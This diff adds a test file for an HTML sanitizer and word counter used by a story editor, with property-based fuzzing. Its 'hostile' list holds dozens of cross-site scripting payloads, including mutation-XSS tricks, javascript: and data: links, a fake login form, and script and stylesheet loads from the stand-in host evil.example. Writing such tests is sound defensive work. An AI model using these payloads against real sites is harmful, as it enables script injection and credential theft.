@@ -1,0 +1,195 @@
+import fc from "fast-check";
+import { describe, expect, test } from "vitest";
+import { cleanStoryHtml, countStoryWords } from "./story-html.ts";
+
+/** Everything that may leave, to the letter: text without a bracket, and these tags in these forms. */
+const style =
+  " style=\"(text-align:(left|center|right)|font-family:(&quot;|')?(Arial|Times New Roman|Courier New)(&quot;|')?)\"";
+const allowed = new RegExp(
+  `^(?:[^<>]|<(?:p|li|span)(?:${style})?>|<(?:strong|em|u|ul)>|<ol(?: start="-?\\d+")?>|<br />` +
+    '|<a href="(?:https?://|mailto:)[^"<>]*" rel="noopener nofollow ugc">' +
+    "|</(?:p|strong|em|u|ul|ol|li|a|span)>)*$",
+);
+
+describe("what the editor makes is kept", () => {
+  test.each([
+    "<p>Plain <strong>bold</strong> <em>italic</em> <u>underlined</u></p>",
+    '<p style="text-align:center">c</p><p style="text-align:right">r</p><p style="text-align:left">l</p>',
+    '<p><span style="font-family:Arial">a</span><span style="font-family:Times New Roman">t</span></p>',
+    '<p><span style="font-family:&quot;Courier New&quot;">c</span></p>',
+    "<ul><li><p>one</p></li><li><p>two</p></li></ul>",
+    '<ol start="3"><li><p>three</p><ul><li><p>deep</p></li></ul></li></ol>',
+    '<p><a href="https://example.com/?a=1&amp;b=2" rel="noopener nofollow ugc">link</a></p>',
+    '<p><a href="mailto:ama@example.com" rel="noopener nofollow ugc">mail</a></p>',
+    "<p>a<br />b</p><p></p><p>1 &lt; 2 &amp; 3 &gt; 2</p>",
+    "<p>Ọ̀rúnmìlà كان يا ما كان 水 👩🏾‍🦱</p>",
+  ])("%s", (html) => {
+    expect(cleanStoryHtml(html)).toBe(html);
+  });
+});
+
+test.each([
+  ["<b>b</b><i>i</i>", "<strong>b</strong><em>i</em>"],
+  ['<p style="text-align: center; color: red">x</p>', '<p style="text-align:center">x</p>'],
+  ['<p style="text-align: justify">x</p>', "<p>x</p>"],
+  ['<span style="font-family: Comic Sans MS">x</span>', "<span>x</span>"],
+  ['<p id="a" class="b" data-c="d" dir="rtl" hidden>x</p>', "<p>x</p>"],
+  ["<h1>Title</h1>", "<p>Title</p>"],
+  [
+    '<a href="http://e.com" target="_blank">x</a>',
+    '<a href="http://e.com/" rel="noopener nofollow ugc">x</a>',
+  ],
+  ["<s>struck</s> <mark>marked</mark>", "struck marked"],
+  ["<p>nul\0l</p>", "<p>null</p>"],
+])("%s becomes %s", (html, cleaned) => {
+  expect(cleanStoryHtml(html).trim()).toBe(cleaned);
+});
+
+/** Shapes that have got past sanitizers, ours or others', or that a browser would read as active. */
+const hostile = [
+  "<script>alert(1)</script>",
+  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+  "<scr<script>ipt>alert(1)</scr</script>ipt>",
+  "<script/x>alert(1)</script\n>",
+  "<p onclick=alert(1)>x</p>",
+  "<p/onmouseover=alert(1)//>x",
+  '<p style="background:url(javascript:alert(1))">x</p>',
+  '<p style="text-align:center;position:fixed;inset:0">x</p>',
+  '<p style="text-align:center/**/;behavior:url(x)">x</p>',
+  '<span style="font-family:Arial&quot;;background:url(//evil.example)">x</span>',
+  '<span style="font-family:Arial}body{display:none}">x</span>',
+  "<style>@import '//evil.example/x.css'</style>",
+  "<link rel=stylesheet href=//evil.example>",
+  "<meta http-equiv=refresh content='0;url=//evil.example'>",
+  "<base href=//evil.example/>",
+  "<iframe src=//evil.example></iframe>",
+  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+  "<object data=x><embed src=x>",
+  "<form action=//evil.example><input name=p><button>Log in</button></form>",
+  "<img src=x onerror=alert(1)>",
+  "<image src=x onerror=alert(1)>",
+  "<video><source onerror=alert(1)></video>",
+  "<details open ontoggle=alert(1)>x</details>",
+  "<svg onload=alert(1)>",
+  "<svg><animate onbegin=alert(1) attributeName=x>",
+  "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
+  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
+  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
+  "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
+  '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+  '<noembed><p title="</noembed><img src=x onerror=alert(1)>">',
+  '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
+  "<plaintext><img src=x onerror=alert(1)>",
+  "<template><script>alert(1)</script></template>",
+  '<title><a href="</title><img src=x onerror=alert(1)>"></title>',
+  '<textarea><a title="</textarea><img src=x onerror=alert(1)>"></textarea>',
+  "<select><style></select><img src=x onerror=alert(1)></style>",
+  "<!--><img src=x onerror=alert(1)>-->",
+  "<!--!><img src=x onerror=alert(1)>--!>",
+  "<![CDATA[><img src=x onerror=alert(1)>]]>",
+  "<?xml version='1.0'?><p>x",
+  "<a href=javascript:alert(1)>x</a>",
+  "<a href=' java\nscript:alert(1)'>x</a>",
+  "<a href='java&#x09;script:alert(1)'>x</a>",
+  "<a href='&#106;avascript&colon;alert(1)'>x</a>",
+  "<a href='\u0001javascript:alert(1)'>x</a>",
+  "<a href=JaVaScRiPt:alert(1)>x</a>",
+  "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
+  "<a href='vbscript:x'>x</a><a href='blob:x'>x</a><a href='file:///etc/passwd'>x</a>",
+  "<a href='//evil.example'>x</a><a href='/relative'>x</a><a href='#top'>x</a>",
+  "<a href='https://e.com/\"onclick=alert(1)'>x</a>",
+  "<a href='https://e.com' onclick=alert(1) ping=//evil.example download>x</a>",
+  "<a href=https://e.com/`onclick=alert(1)`>x</a>",
+  "<p title='><script>alert(1)</script>'>x</p>",
+  "<p\0onclick=alert(1)>x</p>",
+  "<\0script>alert(1)</script>",
+  "&lt;script&gt;alert(1)&lt;/script&gt;",
+  "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
+  "<p>x</p><script",
+  '<a href="https://e.com',
+  "<",
+  "<p",
+  "</p></p></div>",
+];
+
+describe("nothing but what the editor makes leaves", () => {
+  test.each(hostile)("%j", (html) => {
+    const cleaned = cleanStoryHtml(html);
+    expect(cleaned).toMatch(allowed);
+    expect(cleanStoryHtml(cleaned)).toMatch(allowed);
+  });
+
+  test("whatever is put together", () => {
+    const piece = fc.oneof(
+      fc.constantFrom(...hostile),
+      fc.constantFrom(
+        "<p>",
+        "</p>",
+        "<ul><li>",
+        "</li></ul>",
+        "<ol start='2'>",
+        "<span style='",
+        "'>",
+      ),
+      fc.constantFrom(
+        "<",
+        ">",
+        '"',
+        "'",
+        "`",
+        "&",
+        "&lt;",
+        "&quot;",
+        "=",
+        "/",
+        "--",
+        "<!--",
+        "]]>",
+      ),
+      fc.constantFrom(
+        "<svg>",
+        "<math>",
+        "<style>",
+        "</style>",
+        "<noscript>",
+        "<table>",
+        "<select>",
+      ),
+      fc.string({ unit: "binary" }),
+    );
+    fc.assert(
+      fc.property(fc.array(piece, { maxLength: 12 }), (pieces) => {
+        expect(cleanStoryHtml(pieces.join(""))).toMatch(allowed);
+      }),
+      { numRuns: 1500 },
+    );
+  });
+
+  test("nor more than a browser can hold, in deep nests or in great numbers", () => {
+    const deep = cleanStoryHtml(`${"<ul><li>".repeat(500)}word${"</li></ul>".repeat(500)}`);
+    expect(deep).toContain("word");
+    expect(deep.split("<ul>").length).toBeLessThan(40);
+    expect(() => cleanStoryHtml("<b>".repeat(40_000))).toThrow("This has the wrong form.");
+  });
+});
+
+describe("words", () => {
+  test.each([
+    ["", 0],
+    ["<p> </p><p>&nbsp;</p><p><br></p>", 0],
+    ["<p>one two</p><p>three</p>", 3],
+    ["<ul><li><p>one</p></li><li><p>two</p></li></ul>", 2],
+    ["<p>one<br>two</p>", 2],
+    [
+      "<h1>one</h1><h2>two</h2><div>three</div><div>four</div>five<table><tr><td>six</td><td>7</td></tr></table>",
+      7,
+    ],
+    ["<p>half<strong>bold</strong><em>half</em> word</p>", 2],
+    ["<p>one&nbsp;two &amp; four</p>", 4],
+    ['<p><a href="https://e.com/a b">one</a></p>', 1],
+    ["<script>not a word</script><p>one</p>", 1],
+  ])("of %s are %i", (html, count) => {
+    expect(countStoryWords(cleanStoryHtml(html))).toBe(count);
+  });
+});
